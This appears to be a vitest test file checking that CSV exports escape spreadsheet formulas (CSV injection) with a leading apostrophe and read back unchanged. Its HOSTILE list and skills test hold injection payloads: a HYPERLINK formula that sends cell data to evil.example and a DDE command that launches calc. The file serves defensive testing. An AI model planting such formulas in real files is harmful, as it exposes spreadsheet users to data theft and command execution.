import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv as insightCsv } from '../../src/insight/views.ts';
import { toSpreadsheetCsv, unescapeFormula } from '../../src/platform/csv.ts';
import type { ExchangeSkill } from '../../src/skills/formats/common.ts';
import { parseCsv, toCsv as skillsCsv } from '../../src/skills/formats/csv.ts';

/**
 * CSV files people open in a spreadsheet: a cell that a spreadsheet would run as a formula (a skill
 * named "=HYPERLINK(…)", a session titled "@SUM(…)") is written with a leading apostrophe (OWASP,
 * "CSV injection"), numbers stay numbers, and the skills exchange reads its own files back as they were.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR'];

describe('toSpreadsheetCsv', () => {
  it('quotes what needs it, writes booleans, dates and empties plainly', () => {
    const csv = toSpreadsheetCsv([['plain', 'a,b', 'say "hi"', 'two\nlines', null, 3, true, new Date('2026-01-02T03:04:05Z')]], {
      record_delimiter: '\r\n',
    });
    expect(csv).toBe('plain,"a,b","say ""hi""","two\nlines",,3,true,2026-01-02T03:04:05.000Z\r\n');
  });

  it('guards every cell that starts like a formula, and no number', () => {
    const [row] = parse(toSpreadsheetCsv([[...HOSTILE, -3, 'a=b', 'mail@example.org']]), { relax_quotes: true }) as string[][];
    expect(row!.slice(0, HOSTILE.length)).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(row!.slice(HOSTILE.length)).toEqual(['-3', 'a=b', 'mail@example.org']);
    expect(HOSTILE.map((h) => unescapeFormula(`'${h}`))).toEqual(HOSTILE);
    expect(unescapeFormula("'plain")).toBe("'plain");
  });

  it('guards the insight export, whose numbers stay numbers', () => {
    const csv = insightCsv({
      columns: ['occupation', 'vacancies', 'change'],
      rows: [{ occupation: '=1+1', vacancies: 12, change: -4 }],
    } as never);
    expect(parse(csv)).toEqual([
      ['occupation', 'vacancies', 'change'],
      ["'=1+1", '12', '-4'],
    ]);
  });

  it('guards the skills export, and its import reads the names back unchanged', () => {
    const skill: ExchangeSkill = {
      name: { en: '=HYPERLINK("http://evil.example","x")' },
      statement: { en: '-1 is not a skill statement' },
      keywords: { en: ['@home'] },
      categories: [],
      standards: [],
      certifications: [],
      occupations: [],
      employers: [],
      alignments: [],
      author: '+31 20 123 4567',
      status: 'published',
    };
    const csv = skillsCsv([skill], 'en');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csv).toContain("'-1 is not a skill statement");
    const back = parseCsv(csv, 'skills.csv').skills[0]?.skill;
    expect(back!.name).toEqual(skill.name);
    expect(back!.statement).toEqual(skill.statement);
    expect(back!.keywords).toEqual(skill.keywords);
    expect(back!.author).toBe(skill.author);
  });
});
